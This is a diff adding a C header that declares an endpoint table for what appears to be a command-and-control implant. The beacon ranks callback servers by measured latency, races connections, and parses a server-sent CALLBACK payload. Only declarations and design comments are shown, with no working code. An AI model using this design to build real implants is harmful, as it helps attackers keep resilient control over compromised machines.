@@ -0,0 +1,79 @@
+/**
+ * @file endpoint.h
+ * @author Kevin McKenzie
+ * @brief Table of C2 callback endpoints, IPv4 and IPv6, ranked by how fast they have been.
+ *
+ * Each endpoint keeps an EWMA of its connect time and of the kernel's smoothed RTT over its sessions. A beacon tries
+ * them best first, happy eyeballs style (RFC 8305): the next endpoint is started when the previous attempt fails or has
+ * not connected within ENDPOINT_STAGGER_MSEC, and the first connection to complete wins. A slow or dead endpoint costs
+ * one stagger delay instead of a full connect timeout, and once measured it sinks to the bottom of the ranking.
+ * Endpoints not yet measured rank first, in the order the C2 gave them.
+ */
+#ifndef ENDPOINT_H
+#define ENDPOINT_H
+
+#include <stddef.h>
+#include <stdint.h>
+#include <sys/socket.h>
+
+enum
+{
+    ENDPOINT_MAX = 8,
+    ENDPOINT_STAGGER_MSEC = 250,    /**< RFC 8305 connection attempt delay */
+    ENDPOINT_TIMEOUT_MSEC = 10000,  /**< Give up on the beacon when nothing has connected by then */
+    ENDPOINT_FAMILY_IPV4 = 4,       /**< Family byte in the CALLBACK payload */
+    ENDPOINT_FAMILY_IPV6 = 6,
+};
+
+typedef struct
+{
+    struct sockaddr_storage addr;
+    socklen_t addr_len;
+    uint64_t connect_ewma_ns; /**< 0 until measured, attempts that failed or lost the race count as slow samples */
+    uint64_t rtt_ewma_ns;
+} endpoint_t;
+
+typedef struct
+{
+    endpoint_t entries[ENDPOINT_MAX];
+    uint8_t count;
+    uint32_t generation; /**< Bumped when the table is replaced, a session's RTT is only recorded if it is unchanged */
+} endpoint_table_t;
+
+/**
+ * @brief Start a table holding one endpoint.
+ */
+void endpoint_table_init(endpoint_table_t *p_table, const struct sockaddr *p_addr, socklen_t addr_len);
+
+/**
+ * @brief Replace the endpoints of a table. Endpoints also in the old table keep their measurements.
+ */
+void endpoint_table_replace(endpoint_table_t *p_dest, const endpoint_table_t *p_src);
+
+/**
+ * @brief Parse a CALLBACK payload: [count u8] then count times [family u8, 4 or 6][address 4 or 16 bytes][port u16],
+ * address and port in network order.
+ * @param p_table Table to fill
+ * @param src Payload
+ * @param len Bytes available at src
+ * @return size_t Bytes parsed, or more than len when the payload is malformed
+ */
+size_t endpoint_table_deserialize(endpoint_table_t *p_table, const uint8_t *src, size_t len);
+
+/**
+ * @brief Connect to the best endpoint that answers, racing them as described above. A table with a single endpoint is
+ * connected to directly, with TCP Fast Open.
+ * @param p_table Endpoints, their connect times are updated
+ * @param p_index Set to the index of the endpoint connected to
+ * @return int Connected blocking socket, or -1 when no endpoint connected
+ */
+int endpoint_connect(endpoint_table_t *p_table, uint8_t *p_index);
+
+/**
+ * @brief Fold the kernel's smoothed RTT of a session into its endpoint's ranking.
+ */
+void endpoint_record_rtt(endpoint_table_t *p_table, uint8_t index, int sock);
+
+#endif /* ENDPOINT_H */
+
+/*** END OF FILE ***/